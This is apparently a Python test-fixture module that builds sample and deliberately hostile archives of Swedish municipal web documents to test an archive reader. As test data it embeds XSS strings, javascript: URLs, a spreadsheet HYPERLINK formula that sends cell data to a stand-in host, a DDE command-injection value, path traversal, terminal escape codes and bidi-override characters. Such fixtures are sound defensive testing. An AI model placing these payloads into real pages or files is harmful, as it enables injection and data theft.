"""A small archive with one of everything, for tests of what reads archives.

Two kommuner; a press release with two versions, a news item, a notice with three versions that is
gone, a meeting that was moved, with an agenda, one file held and one missing; removals, contacts,
fields, an open alert; hostile text, and words whose letters or invisible characters have broken
searches before.
"""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

from archive.cleaning.template import Template
from archive.recording import Recorder
from archive.records import (
    AgendaItem,
    AttachmentLink,
    Body,
    Contact,
    Document,
    Field,
    Meeting,
    Removal,
)
from archive.store import Message, Store
from archive.text import normalise
from archive.warc import Exchange

NOW = "2026-11-22T03:00:00Z"
DAYS = ("2026-11-19T03:00:00Z", "2026-11-20T03:00:00Z", "2026-11-21T03:00:00Z")
"""When the versions of `NOTICE` were observed."""
HOSTILE = "<script>alert('x')</script>"
OBEYED = "\x1b[31m\u202e"
"""What would colour a terminal and turn its text round."""

RELEASE = Document(
    key="notified:release:1",
    kind="press_release",
    url="https://newsroom.example.se/alingsas/slutet-gott",
    title="Socialnämnden hämtar igen sitt underskott",
    text="Kostnaderna för vården minskar.\n\nFler miljoner till skolorna i Åre.",
    extractor="notified.Release/1+rules:0",
    removals=(
        Removal(0, "cookie:line", "Vi använder kakor"),
        Removal(3, "field:lead", "Nämnden vänder minus till plus.", "page object"),
        Removal(5, "share:row", f"Dela {HOSTILE}", "root", f"div.share {HOSTILE}"),
    ),
    published_at="2020-05-18T05:00:00Z",
    published_local="2020-05-18T07:00:00+02:00",
    contacts=(Contact("Karin Exempel", f"Förvaltningschef {HOSTILE}", "0322-61 00 00"),),
    fields=(Field("lead", "Nämnden vänder minus till plus.", "p.lead"),),
)

NEWS = Document(
    key="sitevision:page:2",
    kind="news",
    url="javascript:alert(1)",
    title=f"Ny värd på turistbyrån {HOSTILE}",
    text=normalise(
        f"En värd tar emot. Budget i balans.\nOmställ\u00adningspaketet är klart. {HOSTILE}"
    ),
    extractor="sitevision.Article/1+rules:0",
    published_at="2021-03-01",
)

MEETING = Document(
    key="meetingplus:meeting:3",
    kind="meeting",
    url="https://moten.example.se/socialnamnden/mote-2020-10-27",
    title="Möte 2020-10-27",
    text="§ 52\nInformation och överläggningar\n§ 53\nSkolskjutsreglemente KS/2021:14",
    extractor="meetingplus.MeetingPage/1+rules:0",
    attachments=(
        AttachmentLink("meetingplus:file:4", "https://a.example.se/4", "Tjänsteskrivelse", 1, 2),
        AttachmentLink("meetingplus:file:5", "javascript:alert(2)", f"Karta {HOSTILE}", 2),
    ),
    meeting=Meeting(
        body=Body("Socialnämnden", "socialnamnden", "namnd"),
        date="2020-10-27",
        start_time="14:00",
        end_time="17:00",
        place="Socialförvaltningen",
        status="agenda_published",
        agenda=(
            AgendaItem(1, "52", "Information och överläggningar"),
            AgendaItem(2, "53", "Skolskjutsreglemente", f"Ärendet {HOSTILE}", "KS/2021:14"),
        ),
    ),
)

FILE = Document(
    key="meetingplus:file:4",
    kind="attachment",
    url="https://moten.example.se/4",
    title="Tjänsteskrivelse",
    text="",
    extractor="common.File/1",
    text_is_read=False,
)

_LINES = (
    "Skolans matsal byggs om under hösten och eleverna äter i gymnastiksalen.",
    "Rektorn svarar på frågor på tisdagar mellan klockan nio och tio.",
    f"Bygget kostar fyra miljoner kronor. {HOSTILE} {OBEYED}",
)
NOTICE = Document(
    key="sitevision:page:6",
    kind="notice",
    url="https://www.example.se/matsalen",
    title="Matsalen byggs om",
    text="\n\n".join(_LINES),
    extractor="sitevision.Article/1+rules:0",
    removals=(Removal(0, "share:row", "Dela sidan"), Removal(1, "cookie:line", "Kakor")),
    contacts=(Contact("Eva Exempel", "Rektor"),),
)
NOTICES = (
    NOTICE,
    replace(
        NOTICE,
        title="Matsalen byggs om i vår",
        text="\n\n".join(
            (_LINES[2].replace("fyra", "sex"), _LINES[0].replace("hösten", "våren"), _LINES[1])
        ),
        contacts=(Contact("Åsa Exempel", "Rektor"),),
    ),
)
REREAD = replace(
    NOTICES[1],
    text=f"{NOTICES[1].text}\n\nSidan granskades i november.",
    extractor="sitevision.Article/2+rules:1",
    removals=(Removal(0, "share:list", "Dela sidan"), Removal(2, "tags:list", f"Skola {OBEYED}")),
)

TURNED = "\u202eomvänt\u2066"
"""Turns the words that follow it round, where nothing stops it."""
FORMULA = '=HYPERLINK("https://ond.example.se/?"&A1)'
TANGLE = '<&"'
NASTY = (
    f"{FORMULA} {HOSTILE} <img src=x onerror=alert(1)> {TANGLE}' onclick=alert(2) {TURNED} \ufdfd"
)
LONG_LINE = f"{NASTY} " * 18_000
"""Two megabytes without a line break."""


def _nasty(most: int, number: int = 0) -> str:
    return f"{FORMULA} {number} {NASTY} {TANGLE * most}"[:most]


MONSTER = Document(
    key="sitevision:page:=cmd|'/c calc'!A0?%&#../é",
    kind="meeting",
    url="https://www.example.se/" + "<\"'&>" * 300,
    title=_nasty(20_000),
    text=f"{LONG_LINE}\n\n{TURNED}\n\n" + "- punkt\n" * 2_000 + "\n\n1. ett\n\n2. två\n\n" * 2_000,
    extractor="sitevision.Article/1+rules:0",
    removals=tuple(
        Removal(n, f"{'share' if n % 2 else 'cookie'}:row", _nasty(400, n), "root", _nasty(300, n))
        for n in range(2_000)
    ),
    published_at="2026-01-01T00:00:00Z",
    contacts=tuple(Contact(_nasty(300, n), NASTY, NASTY, NASTY) for n in range(60)),
    fields=(Field("lead", _nasty(20_000), "p"), Field("byline", _nasty(5_000), "p")),
    attachments=tuple(
        AttachmentLink(f"monster:{n}", f"https://a.example.se/{'&' * 900}{n}", _nasty(500, n), n, n)
        for n in range(1, 201)
    ),
    meeting=Meeting(
        body=Body(_nasty(300), "namnd", "namnd"),
        date="2026-12-24",
        place=_nasty(4_000),
        status="announced",
        agenda=tuple(
            AgendaItem(n, str(n), _nasty(900, n), _nasty(2_000, n), _nasty(100, n))
            for n in range(1, 301)
        ),
    ),
)
"""All that can be too long, too many, or meant to be obeyed."""

_EVENTS = (
    (MEETING.key, DAYS[0], "changed", "date", "2020-10-26", "2020-10-27"),
    (MEETING.key, DAYS[1], "changed", "place", "", f"Socialförvaltningen {HOSTILE}"),
    (MEETING.key, DAYS[2], "attachment_added", f"Karta {HOSTILE} {OBEYED}", "", "file:5"),
    (NOTICE.key, DAYS[1], "moved", "url", "https://www.example.se/gammal", NOTICE.url),
    (NOTICE.key, NOW, "gone", "", "", "404"),
)


def build_sample_archive(data_dir: Path) -> Path:
    """Build the archive below `data_dir` and return the path of its database."""
    path = data_dir / "archive.db"
    with Store(path) as store:
        store.put_kommun("1489", "alingsas", "Alingsås", "Västra Götalands län")
        store.put_kommun("2184", "hudiksvall", "Hudiksvall", "Gävleborgs län")
        room = _source(store, "1489", "pressrum", "notified", "news")
        portal = _source(store, "1489", "moten", "meetingplus", "meetings")
        site = _source(store, "2184", "nyheter", "sitevision", "news")
        before = replace(RELEASE, text="Kostnaderna ökar.")
        _crawl(store, data_dir, room, "pressrum-1", [before])
        _crawl(store, data_dir, room, "pressrum-2", [RELEASE])
        _crawl(store, data_dir, portal, "moten-1", [MEETING, FILE])
        _crawl(store, data_dir, site, "nyheter-1", [NEWS])
        for day, notice in zip(DAYS, NOTICES, strict=False):
            _crawl(store, data_dir, site, f"nyheter-{day[:10]}", [notice], day)
        _reread(store, site, REREAD)
        _note_events(store)
        store.put_template(site, Template((f"Eldningsförbud råder. {HOSTILE}",)), 12, NOW)
        message = f"nyheter: listningen är tom {HOSTILE}"
        store.raise_alerts(site, {"empty_listing": Message(message)}, (), NOW)
    return path


def build_hostile_archive(data_dir: Path, versions: int = 40) -> Path:
    """Build an archive below `data_dir` in which everything is hostile; return its path."""
    path = data_dir / "archive.db"
    with Store(path) as store:
        store.put_kommun("1489", "alingsas", "Alingsås", "Västra Götalands län")
        site = _source(store, "1489", "nyheter", "sitevision", "news")
        _crawl(store, data_dir, site, "nyheter-0", [MONSTER])
        for n in range(1, versions):
            changed = replace(
                MONSTER,
                title=_nasty(3_000, n),
                text=f"{_nasty(3_000, n)}\n\n{n} {LONG_LINE[:30_000]}",
                removals=MONSTER.removals[: 2_000 if n == versions - 1 else 3],
            )
            _crawl(store, data_dir, site, f"nyheter-{n}", [changed])
        document = store.reading(MONSTER.key)
        assert document
        store._db.executemany(
            "INSERT INTO events (document_id, observed_at, kind, field, old_value, new_value) "
            "VALUES (1, ?, 'changed', 'place', ?, ?)",
            [(NOW, _nasty(2_000, n), _nasty(2_000, n)) for n in range(200)],
        )
        store.raise_alerts(site, {"empty_listing": Message(NASTY)}, (), NOW)
    return path


def _source(store: Store, kommunkod: str, slug: str, product: str, kind: str) -> int:
    start_url = f"https://{slug}.example.se/"
    return store.put_source(
        kommunkod, slug, product=product, kind=kind, start_url=start_url, publisher=""
    )


def _crawl(
    store: Store,
    data_dir: Path,
    source_id: int,
    name: str,
    documents: list[Document],
    now: str = NOW,
) -> None:
    crawl_id = store.begin_crawl(source_id, now, "0")
    recorder = Recorder(store, crawl_id, data_dir, f"warc/{name}.warc.gz", "tests")
    for document in documents:
        capture_id, _ = recorder.record(answer(document, now))
        store.save(
            document,
            source_id=source_id,
            capture_id=capture_id,
            crawl_id=crawl_id,
            observed_at=now,
        )
    recorder.close()
    store.end_crawl(crawl_id, now, "ok", "")


def _reread(store: Store, source_id: int, document: Document) -> None:
    before = store.reading(document.key)
    assert before
    store.save(
        document,
        source_id=source_id,
        capture_id=before.capture_id,
        crawl_id=None,
        observed_at=DAYS[2],
        cause="extractor",
    )


def _note_events(store: Store) -> None:
    store._db.executemany(
        "INSERT INTO events (document_id, observed_at, kind, field, old_value, new_value) "
        "SELECT id, ?2, ?3, ?4, ?5, ?6 FROM documents WHERE key = ?1",
        _EVENTS,
    )
    store._db.execute("UPDATE documents SET status = 'gone' WHERE key = ?", (NOTICE.key,))


def answer(document: Document, now: str = NOW) -> Exchange:
    """Return the exchange that a document is read from."""
    return Exchange(
        url=f"https://www.example.se/{document.key}",
        fetched_at=now,
        request_headers=(("Host", "www.example.se"),),
        status=200,
        reason="OK",
        headers=(("Content-Type", "text/html; charset=utf-8"), ("ETag", '"1"')),
        body=f"{document.title}\n{document.text}".encode(),
    )
